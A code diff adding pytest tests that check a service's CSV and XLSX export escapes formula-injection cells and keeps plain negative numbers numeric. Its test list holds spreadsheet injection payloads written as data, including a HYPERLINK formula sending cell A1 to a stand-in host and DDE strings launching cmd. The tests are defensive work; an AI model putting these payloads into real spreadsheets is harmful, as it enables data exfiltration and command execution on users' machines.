@@ -16,7 +16,7 @@ import openpyxl
 import pytest
 
 from retrieval.port import LocalRetrieverPort
-from serve_app.catalog.artifacts import cited_source_rows, files_of, to_xlsx
+from serve_app.catalog.artifacts import Sheet, cited_source_rows, files_of, to_csv, to_xlsx
 from tests.contract.checks import parse_sse, validate_against_schema
 from tests.support.partners import Partners
 from tests.support.service import client_for, config
@@ -138,3 +138,47 @@ def test_the_v1_stream_lists_the_files_before_done(service: dict[str, Any]) -> N
     assert got.status_code == 200 and "sumber" in got.content.decode("utf-8").splitlines()[0]
     with client.stream("POST", "/query/stream", json={"query": QUESTION}, headers=ana) as plain:
         assert "artifacts" not in [name for name, _ in parse_sse("".join(plain.iter_text()))]
+
+
+HOSTILE = [
+    "=HYPERLINK(\"http://contoh.invalid/?x=\"&A1,\"klik\")",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+    "-1e3",
+    "-12,5 A1",
+    "--1",
+    "-+1",
+    "-1,",
+]
+
+
+def test_formula_starts_are_neutralised_in_csv_and_xlsx() -> None:
+    sheet = Sheet("uji", ["=kolom", "nilai"], [[cell, "7"] for cell in HOSTILE])
+    table = list(csv.reader(io.StringIO(to_csv(sheet).decode("utf-8"), newline="")))
+    assert table[0] == ["'=kolom", "nilai"]
+    assert [row[0] for row in table[1:]] == ["'" + cell for cell in HOSTILE]
+    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(sheet)))
+    ws = book.active
+    assert ws is not None
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells), "no cell is a formula"
+    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
+    # XML reads a stored carriage return back as a line feed; the leading ' is what matters
+    expected = ["'" + c.replace("\r", "\n") for c in HOSTILE]
+    assert [ws.cell(row=i + 2, column=1).value for i in range(len(HOSTILE))] == expected
+    assert [c.value for c in cells if c.column == 2][1:] == [7] * len(HOSTILE)
+
+
+def test_plain_negative_numbers_stay_usable() -> None:
+    sheet = Sheet("uji", ["a", "b", "c"], [["-125", "-12,5", "-1.250.000"], ["12", "kas", "-"]])
+    table = list(csv.reader(io.StringIO(to_csv(sheet).decode("utf-8"), newline="")))
+    assert table[1:] == [["-125", "-12,5", "-1.250.000"], ["12", "kas", "-"]]
+    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(sheet))).active
+    assert ws is not None
+    first = [c for c in next(ws.iter_rows(min_row=2, max_row=2))]
+    assert [c.value for c in first] == [-125, "-12,5", "-1.250.000"]
+    assert first[0].data_type == "n" and first[1].data_type == "s"  # a number, and text that is no formula
